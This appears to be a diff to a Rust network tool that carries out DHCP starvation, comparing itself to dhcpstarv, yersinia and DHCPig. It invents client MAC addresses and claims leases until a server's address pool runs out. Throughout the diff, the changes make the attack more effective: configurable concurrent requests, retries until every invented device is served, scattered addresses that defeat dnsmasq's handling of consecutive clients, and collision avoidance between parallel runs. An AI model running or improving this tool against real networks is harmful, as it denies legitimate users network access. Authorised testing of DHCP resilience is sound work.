@@ -1,6 +1,6 @@
 //! A device that takes addresses by DHCP for others that it invents, as dhcpstarv, yersinia and `DHCPig` do.
 
-use std::collections::HashMap;
+use std::collections::{HashMap, HashSet};
 use std::net::Ipv4Addr;
 use std::os::fd::AsRawFd as _;
 use std::time::{Duration, Instant};
@@ -34,14 +34,15 @@ pub struct Starve {
     /// Seconds
     #[arg(long, default_value_t = 4)]
     seconds: u64,
-    /// Addresses at most
+    /// Devices at most, which then ask until all have an address
     #[arg(long, default_value_t = u32::MAX)]
     most: u32,
+    /// Asked and not answered yet
+    #[arg(long, default_value_t = 64)]
+    at_once: usize,
 }
 
-/// Asked and not answered yet, at once.
-const WINDOW: usize = 64;
-/// After which a question is given up.
+/// After which a device asks again, or another is invented in its stead.
 const PATIENCE: Duration = Duration::from_secs(1);
 const SERVER_PORT: u16 = 67;
 const CLIENT_PORT: u16 = 68;
@@ -58,6 +59,7 @@ struct Answer {
     kind: u8,
     transaction: u32,
     address: Ipv4Addr,
+    device: [u8; 6],
     server: Option<Ipv4Addr>,
 }
 
@@ -66,19 +68,27 @@ impl Starve {
     ///
     /// # Errors
     /// No root, or no interface `eth0`.
-    pub fn run(&self) -> anyhow::Result<u32> {
+    pub fn run(&self) -> anyhow::Result<usize> {
         let (wire, own) = (open("eth0", Some(SockProtocol::EthIp))?, hardware(&self.mac)?);
         setsockopt(&wire, sockopt::ReceiveTimeout, &TimeVal::new(0, 10_000))?;
         let until = Instant::now() + Duration::from_secs(self.seconds);
-        let (mut got, mut number) = (0, 0_u32);
-        let mut waiting: HashMap<u32, Instant> = HashMap::new();
-        while Instant::now() < until && got < self.most {
-            waiting.retain(|_, asked| asked.elapsed() < PATIENCE);
-            let left = usize::try_from(self.most - got).unwrap_or(usize::MAX);
-            while waiting.len() < WINDOW.min(left) {
-                number += 1;
-                waiting.insert(number, Instant::now());
-                let frame = self.request(own, number, DISCOVER, &[]);
+        let (mut number, mut waiting, mut settled) = (0_u32, HashMap::new(), HashSet::new());
+        let mut due: Vec<u32> = Vec::new();
+        while Instant::now() < until && settled.len() < usize::try_from(self.most)? {
+            waiting.retain(|one, asked: &mut Instant| {
+                let is_due = asked.elapsed() >= PATIENCE;
+                due.extend(is_due.then_some(*one));
+                !is_due
+            });
+            while waiting.len() < self.at_once {
+                // Whoever may invent no more asks again for those he has.
+                let fresh = (number < self.most).then_some(number + 1);
+                let Some(next) = fresh.or_else(|| due.pop()) else {
+                    break;
+                };
+                number = number.max(next);
+                waiting.insert(next, Instant::now());
+                let frame = self.request(own, next, DISCOVER, &[]);
                 // A full queue is no reason to stop.
                 _ = send(wire.as_raw_fd(), &frame, MsgFlags::empty());
             }
@@ -87,7 +97,8 @@ impl Starve {
                 continue;
             };
             let answer = frame.get(..length).and_then(read);
-            let Some(answer) = answer.filter(|one| waiting.contains_key(&one.transaction)) else {
+            // Others hear what is said to all as well.
+            let Some(answer) = answer.filter(|one| one.device == self.device(own, one.transaction).0) else {
                 continue;
             };
             match (answer.kind, answer.server) {
@@ -98,30 +109,41 @@ impl Starve {
                 }
                 (ACK, _) => {
                     waiting.remove(&answer.transaction);
-                    got += 1;
+                    due.retain(|one| *one != answer.transaction);
+                    settled.insert(answer.transaction);
                 }
                 _ => {}
             }
         }
-        Ok(got)
+        Ok(settled.len())
+    }
+
+    /// Who the device of this number is, to the server and in the frame.
+    fn device(&self, own: [u8; 6], number: u32) -> ([u8; 6], [u8; 6]) {
+        // As far from each other as real ones: dnsmasq offers those that follow one another the same address as long as nobody has taken it.
+        let [_, n1, n2, n3] = number.wrapping_mul(0x009e_37b1).to_be_bytes();
+        // So that no two who do this invent the same.
+        let [.., high, low] = std::process::id().to_be_bytes();
+        let invented = [0x0a, high, low, n1, n2, n3];
+        match self.kind {
+            Invention::Devices => (invented, invented),
+            Invention::Clients => (invented, own),
+            Invention::Longer => (own, own),
+        }
     }
 
     /// Of the device of this number, which is its transaction too.
     fn request(&self, own: [u8; 6], number: u32, kind: u8, options: &[u8]) -> Vec<u8> {
-        let [n0, n1, n2, n3] = number.to_be_bytes();
-        // So that no two who do this invent the same.
-        let [.., high, low] = std::process::id().to_be_bytes();
-        let invented = [0x0a, high, low, n1, n2, n3];
-        let (from, device, length) = match self.kind {
-            Invention::Devices => (invented, invented, 6),
-            Invention::Clients => (own, invented, 6),
-            Invention::Longer => (own, own, 16),
-        };
-        let mut message = vec![1, 1, length, 0, n0, n1, n2, n3, 0, 0, 0x80, 0];
+        let (device, from) = self.device(own, number);
+        let length = if self.kind == Invention::Longer { 16 } else { 6 };
+        let transaction = number.to_be_bytes();
+        let mut message = vec![1, 1, length, 0];
+        message.extend(transaction);
+        message.extend([0, 0, 0x80, 0]);
         message.resize(28, 0);
         message.extend(device);
         if length > 6 {
-            message.extend([n0, n1, n2, n3]);
+            message.extend(transaction);
         }
         message.resize(236, 0);
         message.extend(COOKIE);
@@ -149,6 +171,7 @@ fn read(frame: &[u8]) -> Option<Answer> {
         kind: 0,
         transaction: u32::from_be_bytes(four(4)?),
         address: four(16)?.into(),
+        device: *message.get(28..)?.first_chunk()?,
         server: None,
     };
     let mut options = message.get(240..)?;
